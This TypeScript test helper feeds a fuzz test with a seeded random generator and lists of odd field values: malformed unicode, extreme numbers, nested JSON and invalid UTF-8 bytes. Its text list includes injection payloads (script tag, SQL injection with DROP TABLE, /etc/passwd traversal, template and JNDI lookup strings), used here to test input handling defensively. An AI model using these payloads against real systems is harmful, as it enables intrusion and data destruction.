// A seeded random source and the odd values the fuzz test feeds every field: wrong types, odd
// unicode, negative, huge and not-a-number numbers, injection-looking text. Same seed, same
// values, so a failing request can be rebuilt from the seed and its index.

export type Random = {
	/** A float in [0, 1). */
	next: () => number
	/** An integer in [min, max]. */
	int: (min: number, max: number) => number
	pick: <T>(items: readonly T[]) => T
	chance: (probability: number) => boolean
}

/** mulberry32: small, fast and good enough to spread test cases. */
export function seededRandom(seed: number): Random {
	let state = seed >>> 0
	const next = () => {
		state = (state + 0x6d2b79f5) >>> 0
		let t = state
		t = Math.imul(t ^ (t >>> 15), t | 1)
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61)
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296
	}
	const int = (min: number, max: number) => min + Math.floor(next() * (max - min + 1))
	return {
		next,
		int,
		pick: (items) => items[int(0, items.length - 1)]!,
		chance: (probability) => next() < probability,
	}
}

export const ODD_TEXT = [
	'',
	' ',
	'\t\n\r',
	'null',
	'undefined',
	'true',
	'[object Object]',
	'__proto__',
	'constructor',
	'<script>alert(1)</script>',
	"' OR 1=1 --",
	'"; DROP TABLE orders; --',
	'../../../etc/passwd',
	'%00',
	'\u0000',
	'\u0000\u0001\u0002\u001b[31m',
	'\uFEFFbom',
	'\u202Eevil\u202C',
	'ｆｕｌｌｗｉｄｔｈ',
	'𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
	'👩‍👩‍👧‍👦🏳️‍🌈',
	'Z̴̡̛̩̈́a̵̢̛͓l̸̰̈́g̶̜̈o̷̧͝',
	'\uD800',
	'\uDFFF\uD800',
	'مرحبا',
	'日本語のテキスト',
	'{{7*7}}${7*7}',
	'${jndi:ldap://example.invalid/a}',
	'a@b',
	'@example.com',
	'user@',
	'user@@example.com',
	'x'.repeat(257) + '@example.com',
	'a'.repeat(5000),
	'é'.repeat(3000),
	'𝔘'.repeat(2000),
] as const

export const ODD_NUMBER_TEXT = [
	'-1',
	'0',
	'-0',
	'1.5',
	'0.0625',
	'1e308',
	'-1e308',
	'1e-400',
	'1e999',
	'NaN',
	'Infinity',
	'-Infinity',
	'9007199254740993',
	'99999999999999999999999999',
	'-2147483649',
	'0x10',
	'0b101',
	'1_000',
	' 12 ',
	'١٢',
	'12abc',
	'1,000',
	'+5',
	'.5',
	'5.',
] as const

export const ODD_JSON_VALUES: readonly unknown[] = [
	null,
	true,
	false,
	0,
	-1,
	-0.5,
	1.5,
	Number.MAX_SAFE_INTEGER + 2,
	1e308,
	-1e308,
	[],
	{},
	[null],
	[[[[[]]]]],
	{ __proto__: null, toString: 'x' },
	{ valueOf: 1 },
	'',
]

/** Any odd value: text, number-looking text, or (for JSON bodies) any JSON value. */
export function oddValue(r: Random, json: boolean): unknown {
	const roll = r.next()
	if (roll < 0.4) return r.pick(ODD_TEXT)
	if (roll < 0.75) {
		const text = r.pick(ODD_NUMBER_TEXT)
		return json && r.chance(0.5) && Number.isFinite(Number(text)) ? Number(text) : text
	}
	if (json) return r.pick(ODD_JSON_VALUES)
	return r.pick(ODD_TEXT)
}

/** A JSON array nested `depth` deep, as text (JSON.stringify would recurse as deep). */
export function deeplyNestedJson(depth: number): string {
	return `${'['.repeat(depth)}${']'.repeat(depth)}`
}

/** Raw bytes that are not valid UTF-8 (a lone continuation byte, an overlong slash, a cut rune). */
export const INVALID_UTF8 = [
	Buffer.from([0x80]),
	Buffer.from([0xc0, 0xaf]),
	Buffer.from([0xe2, 0x82]),
	Buffer.from([0xed, 0xa0, 0x80]),
	Buffer.from([0xff, 0xfe, 0x00]),
] as const
